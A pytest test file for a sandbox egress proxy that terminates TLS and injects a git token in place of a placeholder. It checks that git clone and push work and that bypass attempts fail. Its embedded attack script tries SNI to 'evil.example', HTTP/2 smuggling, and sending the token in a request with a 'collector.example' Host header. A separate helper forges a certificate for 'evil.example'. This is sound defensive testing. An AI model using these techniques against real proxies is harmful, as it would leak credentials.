"""git over HTTPS from a capsule through TLS the proxy terminates (issue 38), and the attacks on it.

The test runs ``git http-backend`` behind its own TLS server on the host's 127.0.0.1
(a port the kernel picks, named by exact address in the capsule's allowlist), with a
certificate from a test CA that the front end trusts through ``SSL_CERT_FILE`` (as a
host trusts its system store), requiring Basic auth.  The capsule holds only the
placeholder of the token (``basic-password``), which a git credential helper prints;
the proxy terminates the capsule's CONNECT with a leaf of the capsule's own CA (which
git trusts through ``GIT_SSL_CAINFO``), swaps the placeholder for the token, and
re-encrypts to the server.  A jail that names another host in its ClientHello, speaks
HTTP/2, or sends the placeholder with another Host header inside the terminated
connection gets nothing; a leaf the capsule CA's key signs for another name is refused
by Python's ssl against the capsule's own bundle.
"""

from __future__ import annotations

import base64
import contextlib
import datetime as dt
import json
import os
import ssl
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mcp_server.core.secretbind import make_binding
from mcp_server.core.tlsca import Authority, make_authority, sign_leaf
from mcp_server.egress import tlsterm
from mcp_server.fs.castore import server_context
from mcp_server.fs.secretstore import SecretStore
from tests.support.secretsearch import IN_CAPSULE, STORE_FILE, events_holding, files_holding
from tests.support.tlsserver import QuietHandler, TlsServer

PYTHON = "/usr/bin/python3"
TOKEN = b"ghp_" + b"Tq4wZ" * 8  # 44 bytes
NOW = dt.datetime.now(dt.UTC)
PUBLIC = make_authority(["127.0.0.1"], NOW)  # the test's CA, which the host trusts
MARKER = "ccw-marker-" + "Wq9" * 8  # written by the capsule: the search must find it in the capsule's disk
HELPER = "credential.helper=!f() { echo username=git; echo \"password=$GIT_TOKEN\"; }; f"


class GitServer(TlsServer):
    """``git http-backend`` over TLS, Basic auth ``git:TOKEN``; ``heads`` keeps each request head."""

    def __init__(self, root: Path) -> None:
        super().__init__("127.0.0.1", GitHandler, server_context(PUBLIC.leaf("127.0.0.1", NOW)))
        self.root = root
        self.heads: list[bytes] = []


class GitHandler(QuietHandler):
    server: GitServer

    def do_GET(self) -> None:
        self._git()

    def do_POST(self) -> None:
        self._git()

    def _git(self) -> None:
        self.server.heads.append(f"{self.requestline}\r\n{self.headers}".encode())
        if (self.headers.get("Authorization") or "").encode() != b"Basic " + base64.b64encode(b"git:" + TOKEN):
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="git"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        path, _, query = self.path.partition("?")
        env = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": str(self.server.root), "GIT_HTTP_EXPORT_ALL": "1",
               "REQUEST_METHOD": self.command, "PATH_INFO": path, "QUERY_STRING": query, "REMOTE_USER": "git",
               "REMOTE_ADDR": "127.0.0.1", "CONTENT_TYPE": self.headers.get("Content-Type") or "",
               "CONTENT_LENGTH": str(len(body)), "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding") or "",
               "GIT_PROTOCOL": self.headers.get("Git-Protocol") or ""}
        out = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True, check=False).stdout
        head, _, rest = out.partition(b"\r\n\r\n")
        fields = [line.split(b":", 1) for line in head.split(b"\r\n") if b":" in line]
        status = next((int(v.split()[0]) for k, v in fields if k.lower() == b"status"), 200)
        self.send_response(status)
        for key, value in fields:
            if key.lower() != b"status":
                self.send_header(key.decode(), value.strip().decode())
        self.send_header("Content-Length", str(len(rest)))
        self.end_headers()
        self.wfile.write(rest)


@pytest.fixture
def git_server(tmp_path: Path, root_required: None, monkeypatch: pytest.MonkeyPatch) -> Iterator[GitServer]:
    (tmp_path / "public.pem").write_bytes(PUBLIC.cert_pem())
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "public.pem"))  # the front end trusts the test's CA
    tlsterm.upstream_context.cache_clear()
    repos = tmp_path / "repos"
    seed = tmp_path / "seed"
    for argv in (["git", "init", "-q", "--bare", "-b", "main", str(repos / "repo.git")],
                 ["git", "-C", str(repos / "repo.git"), "config", "http.receivepack", "true"],
                 ["git", "init", "-q", "-b", "main", str(seed)],
                 ["git", "-C", str(seed), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q",
                  "--allow-empty", "-m", "seed"],
                 ["git", "-C", str(seed), "push", "-q", str(repos / "repo.git"), "main"]):
        subprocess.run(argv, check=True)
    server = GitServer(repos)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    tlsterm.upstream_context.cache_clear()


# A backslash-newline in this literal joins a long line: the script never sees it.
ATTACKS = """
import base64, os, socket, ssl, sys
port = int(sys.argv[1])
def tunnel():
    s = socket.create_connection(('10.99.0.1', 3128))
    s.sendall(f'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n'.encode())
    assert b' 200 ' in s.recv(4096)
    return s
def first_line(t):
    try:
        return t.recv(4096).split(b'\\r\\n')[0].decode()
    except (ssl.SSLError, OSError) as e:
        return type(e).__name__
context = ssl.create_default_context()  # SSL_CERT_FILE: the capsule's bundle
loose = ssl.create_default_context()
loose.check_hostname = False
try:
    loose.wrap_socket(tunnel(), server_hostname='evil.example')
    print('sni: handshake done')
except (ssl.SSLError, OSError):
    print('sni: refused')
h2 = ssl.create_default_context()
h2.set_alpn_protocols(['h2'])
t = h2.wrap_socket(tunnel(), server_hostname='127.0.0.1')
print('alpn:', t.selected_alpn_protocol())
t.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')
print('h2:', first_line(t))
t = context.wrap_socket(tunnel(), server_hostname='127.0.0.1')
auth = base64.b64encode(b'git:' + os.environ['GIT_TOKEN'].encode()).decode()
t.sendall(f'GET /repo.git/info/refs HTTP/1.1\\r\\nHost: collector.example\\r\\n\
Authorization: Basic {auth}\\r\\n\\r\\n'.encode())
print('host:', first_line(t))
"""


def test_git_push_over_https_with_a_placeholder(tools: Any, tmp_path: Path, git_server: GitServer) -> None:
    port = git_server.server_address[1]
    state = tools.runtime.state.root
    os.chmod(state, 0o700)
    SecretStore(state).put(make_binding("GIT_TOKEN", [f"127.0.0.1:{port}"], None, "basic-password"), "stdin", TOKEN)
    workspace = tmp_path / "project"
    workspace.mkdir()
    url = f"https://127.0.0.1:{port}/repo.git"
    git = f"NO_PROXY= no_proxy= git -c '{HELPER}'"
    push = (f"cd work && git -c user.name=c -c user.email=c@c commit -q --allow-empty -m from-capsule && "
            f"{git} push -q origin HEAD:refs/heads/from-capsule")

    async def scenario(t: Any) -> dict[str, Any]:
        cap = (await t.call("capsule_create", {"workspace": str(workspace), "network": [f"127.0.0.1:{port}"],
                                               "secrets": ["GIT_TOKEN"]}))["capsule_id"]

        async def run(cmd: list[str]) -> dict[str, Any]:
            return await t.call("capsule_exec", {"capsule_id": cap, "cmd": cmd, "timeout_ms": 60000})

        out = {"cap": cap, "clone": await run(["sh", "-c", f"{git} clone -q {url} work"])}
        out["push"] = await run(["sh", "-c", push])
        out["bundle"] = await run(["sh", "-c", f'echo "$GIT_SSL_CAINFO $SSL_CERT_FILE"; echo x >> "$SSL_CERT_FILE"; '
                                               f'echo $?; echo {MARKER} > marker'])
        out["attacks"] = await run(["sh", "-c", f"NO_PROXY= no_proxy= {PYTHON} -c \"$0\" {port}", ATTACKS])
        out["search"] = await run([PYTHON, "-c", IN_CAPSULE, TOKEN.hex()])
        return out

    out = tools.run(scenario)
    assert out["clone"]["exit_code"] == 0, out["clone"]["stderr"]
    assert out["push"]["exit_code"] == 0, out["push"]["stderr"]
    pushed = subprocess.run(["git", "--git-dir", str(git_server.root / "repo.git"), "log", "-1", "--format=%s",
                             "refs/heads/from-capsule"], capture_output=True, text=True, check=True).stdout
    assert pushed == "from-capsule\n"
    records = [r for key in ("clone", "push") for r in out[key]["touched"]["network"] if r["protocol"] != "udp"]
    assert records and all(r.get("tls") == "terminated" and r["allowed"] for r in records), json.dumps(records)
    assert any(b"git-receive-pack" in head for head in git_server.heads)
    # The bundle: the capsule's, read-only in the jail, named by git's and OpenSSL's variables.
    bundle, again = out["bundle"]["stdout"].split("\n")[0].split()
    assert bundle == again and bundle.startswith(str(state)) and out["bundle"]["stdout"].split("\n")[1] != "0"
    _attacks_refused(out["attacks"], git_server)
    _ca_signs_no_other_name(state, bundle)
    # The token's bytes: nowhere the capsule, its person or its journal can read.
    assert out["search"]["stdout"] == "[]\n", out["search"]
    assert TOKEN not in json.dumps(out).encode()
    assert files_holding(state, MARKER.encode(), set()) != []  # the search reads the capsule's files
    assert files_holding(state, TOKEN, {STORE_FILE}) == [] and files_holding(workspace, TOKEN, set()) == []
    assert events_holding(tools.runtime.state.db_path, TOKEN) == []
    assert TOKEN not in Path("/proc/self/environ").read_bytes() and TOKEN not in Path("/proc/self/cmdline").read_bytes()


def _attacks_refused(run: dict[str, Any], git_server: GitServer) -> None:
    lines = dict(line.split(": ", 1) for line in run["stdout"].splitlines())
    assert lines["sni"] == "refused" and lines["alpn"] == "None", run
    assert lines["h2"].startswith("HTTP/1.1 403") and lines["host"].startswith("HTTP/1.1 403"), run
    reasons = [str(r["reason"]) for r in run["touched"]["network"] if not r["allowed"]]
    assert any("asks for 'evil.example'" in why for why in reasons), reasons
    assert any("HTTP/2 (prior knowledge)" in why for why in reasons), (run["stdout"], reasons)
    assert any(why.startswith("exfiltration attempt? a request in the TLS") and "collector.example" in why
               for why in reasons), reasons
    assert not any(b"collector.example" in head for head in git_server.heads)


def _ca_signs_no_other_name(state: Path, bundle: str) -> None:
    """The capsule CA's key (0600, the front end's) signs a leaf for another name: Python's ssl,
    trusting the capsule's bundle, refuses it (the name constraint holds at the client)."""
    [key_file] = (state / "capsule-tls").glob("*.pem")
    assert key_file.stat().st_mode & 0o777 == 0o600
    authority = Authority.from_pem(key_file.read_bytes())
    assert authority.hosts == frozenset({"127.0.0.1"})
    leaf = sign_leaf(authority.key, authority.cert, "evil.example", NOW)
    bios = [(ssl.MemoryBIO(), ssl.MemoryBIO()) for _ in range(2)]  # (incoming, outgoing) of each side
    client = ssl.create_default_context(cafile=bundle).wrap_bio(*bios[0], server_hostname="evil.example")
    server = server_context(leaf).wrap_bio(*bios[1], server_side=True)
    with pytest.raises(ssl.SSLCertVerificationError, match=r"(?i)name constraint|permitted"):
        for _ in range(10):
            for one, (mine, theirs) in ((client, (bios[0][1], bios[1][0])), (server, (bios[1][1], bios[0][0]))):
                with contextlib.suppress(ssl.SSLWantReadError):
                    one.do_handshake()
                theirs.write(mine.read())
